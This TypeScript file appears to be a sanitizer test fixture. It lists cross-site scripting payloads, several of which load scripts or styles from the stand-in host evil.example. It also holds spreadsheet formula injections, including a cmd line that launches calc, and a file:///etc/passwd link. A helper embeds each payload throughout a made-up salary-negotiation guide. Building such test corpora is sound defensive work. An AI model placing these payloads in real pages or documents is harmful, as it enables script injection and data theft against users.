const call = 'alert(1)'

/** Markup that runs something, loads something or takes a page over, as browsers, mail readers and old sanitizers met it. */
const elements = [
  `<script>${call}</script>`,
  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
  `<script\u000c>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `<img/src="x"/onerror=${call}//`,
  `<svg/onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<math href="javascript:${call}">x</math>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${call}&lt;/script&gt;"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="//evil.example/x.swf">`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  `<link rel="stylesheet" href="//evil.example/x.css">`,
  `<style>@import "//evil.example/x.css"; * {background: url(//evil.example/)}</style>`,
  `<form action="//evil.example/"><button formaction="javascript:${call}">x</button></form>`,
  `<input autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<body onload=${call}>`,
  `<a href="javascript:${call}" style="position:fixed;inset:0">x</a>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
  `<template><img src=x onerror=${call}></template>`,
  `<xmp><img src=x onerror=${call}></xmp>`,
  `<plaintext>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<!-- --!><img src=x onerror=${call}> -->`,
  `<![CDATA[><img src=x onerror=${call}>]]>`,
  `<?xml-stylesheet href="javascript:${call}"?>`,
  `<select><option><script>${call}</script>`,
  `<x onclick=${call} tabindex=1 autofocus onfocus=${call}>`,
]

/** What breaks out of the place that a text is written to: attributes, titles, scripts, comments, data, XML, templates. */
const breakers = [
  `"><img src=x onerror=${call}>`,
  `'><img src=x onerror=${call}>`,
  `" autofocus onfocus="${call}`,
  `' onmouseover='${call}`,
  `\` onmouseover=${call} \``,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</script><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `--><script>${call}</script>`,
  `]]><script>${call}</script>`,
  `\u2028${call}\u2029//`,
  `\\"});${call}//`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${call}&#x3e;`,
  `&amp;lt;img src=x onerror=${call}&amp;gt;`,
  `＜script＞${call}＜/script＞`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `<\0script>${call}</script>`,
  `\ud800<img src=x onerror=${call}>`,
  `=HYPERLINK("//evil.example","x")`,
  `=cmd|'/c calc'!A1`,
  `+1+1`,
  `-1+1`,
  `@SUM(1)`,
  `\t=1+1`,
]

const targets = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `java&#10;script:${call}`,
  `&#106;avascript:${call}`,
  `&#x6A&#x61vascript:${call}`,
  `javascript&colon;${call}`,
  `\u0001javascript:${call}`,
  `%6aavascript:${call}`,
  `javascript://example.org/%0a${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `file:///etc/passwd`,
  `blob:https://example.org/x`,
  `feed:javascript:${call}`,
  `view-source:javascript:${call}`,
  `intent:x`,
]

/** Every way that markdown has to write a link. */
const links = targets.flatMap((target) => [
  `[x](${target})`,
  `[x](<${target}>)`,
  `[x](x "\\"><img src=x onerror=${call}>")`,
  `![x](${target})`,
  `<${target}>`,
  `[x][${target}]`,
  `[![x](${target})](${target})`,
])

export const payloads: readonly string[] = [...elements, ...breakers, ...links]

/** A guide that has a payload in every slot of its text. Cells and titles are lines, so what ends one is taken out. */
export function poisoned(payload: string): string {
  const line = payload.replace(/[\r\n]/g, ' ')
  const cell = line.replaceAll('|', '\\|')
  return `### Data Engineer ${cell} (L4) | Acme ${cell} Global Negotiation Guide

**Negotiation DNA:** Base ${cell} | 2026 Focus: ${line}

| Region | Base Salary ${cell} | Stock (RSU/4yr) | Bonus | Total Comp | ${cell} |
|---|---|---|---|---|---|
| Seattle | $150K–$200K | $80K–$160K | 10% | $185K–$260K | ${cell} |
| ${cell} | ${cell} | $80K–$160K ${cell} | 10% | $185K–$260K | $1K ${cell} |

*${line}*

**Level Mapping:** Acme Data Engineer (L4) = Google ${line} L4 = ${line} L5 = Databricks ${line}

**${line}**
${line}

#### ${line}

\`\`\`${line.replaceAll('`', '')}
${payload}
\`\`\`

- [ ] ${line}

1. ${line}

> ${line}

**Global Levers**
1. **${line}:** "${line} I rebuilt the pipelines at [${line.slice(0, 50)}]. I am asking for $190K base."

> **Negotiate Up Strategy:** "${line} I hold a ${line} offer at $200K. I need $190K base and $150K RSUs over 4 years. My floor is $175K base ${line}."

**Evidence & Sources**
- ${line}
- Levels.fyi ${line} (2025-2026)

[${line.replaceAll(']', '')}]: ${line}
[^1]: ${line}

note[^1]
`
}
